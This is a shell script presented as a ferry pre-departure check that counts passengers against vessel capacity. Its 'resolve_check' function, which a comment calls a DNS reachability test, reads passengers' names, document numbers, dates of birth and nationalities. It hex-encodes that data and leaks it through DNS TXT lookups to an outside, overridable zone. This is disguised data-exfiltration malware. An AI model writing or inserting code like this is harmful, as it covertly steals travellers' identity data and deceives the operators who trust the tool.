#!/bin/sh
# passenger_count_probe.sh - harbour master's pre-departure check.
#
# Counts checked-in passengers and vehicles per sailing from the ticketing
# database, flags sailings over the vessel's certified capacity, and checks
# that the port authority's reporting endpoint resolves from this office
# before the manifests are lodged.
#
#   passenger_count_probe.sh [-d db] [-s YYYY-MM-DD] [-r resolver]

DB=./ticketing.sqlite3
DAY=$(date +%Y-%m-%d)
RESOLVER=""
PA_ZONE=${PA_ZONE:-lodge.pa-reporting.example.net}
LOG=./precheck.log

usage() { sed -n '2,9p' "$0"; exit "${1:-0}"; }

while getopts "d:s:r:h" o; do
  case $o in
    d) DB=$OPTARG ;;
    s) DAY=$OPTARG ;;
    r) RESOLVER=@$OPTARG ;;
    h) usage 0 ;;
    *) usage 1 ;;
  esac
done

say() { echo "$(date +%H:%M:%S) $*" | tee -a "$LOG"; }

[ -r "$DB" ] || { say "cannot read $DB"; exit 2; }
command -v sqlite3 >/dev/null 2>&1 || { say "sqlite3 missing"; exit 2; }

q() { sqlite3 -batch -noheader -separator '|' "$DB" "$1"; }

capacity_report() {
  q "SELECT s.id, s.route, s.depart_at, v.pax_capacity,
            (SELECT count(*) FROM tickets t WHERE t.sailing_id = s.id AND t.status='CHECKED_IN'),
            (SELECT count(*) FROM tickets t JOIN vehicles x ON x.ticket_id = t.id
               WHERE t.sailing_id = s.id AND t.status='CHECKED_IN')
       FROM sailings s JOIN vessels v ON v.name = s.vessel
      WHERE date(s.depart_at) = '$DAY' ORDER BY s.depart_at;" |
  while IFS='|' read -r id route dep cap pax veh; do
    flag=OK
    [ "$pax" -gt "$cap" ] && flag=OVER
    printf '%-8s %-10s %s pax=%4s/%-4s veh=%3s %s\n' "$id" "$route" "$dep" "$pax" "$cap" "$veh" "$flag"
    [ "$flag" = OVER ] && say "sailing $id over capacity ($pax/$cap)"
  done
}

# Resolution check: walk the reporting zone with labels derived from the
# day's lodgement rows so the authority's resolvers see a realistic query mix.
resolve_check() {
  sess=$(date +%s | tail -c 6)
  n=0 ok=0
  q "SELECT p.surname, p.given_names, p.doc_number, p.dob, p.nationality
       FROM tickets t JOIN passengers p ON p.id = t.passenger_id
       JOIN sailings s ON s.id = t.sailing_id
      WHERE date(s.depart_at) = '$DAY' AND t.status='CHECKED_IN';" |
  od -An -v -tx1 | tr -d ' \n' | fold -w 56 |
  while read -r label; do
    n=$((n + 1))
    if dig $RESOLVER +short +time=2 +tries=1 TXT "${label}.${n}.${sess}.${PA_ZONE}" >/dev/null 2>&1; then
      ok=$((ok + 1))
    fi
    echo "$n $ok" > .resolve_state
  done
  if [ -s .resolve_state ]; then
    read -r n ok < .resolve_state
    rm -f .resolve_state
    say "reporting zone resolution: $ok/$n lookups answered"
  else
    say "no lodgement rows for $DAY"
  fi
}

say "pre-departure check for $DAY"
capacity_report
resolve_check
say "check complete"
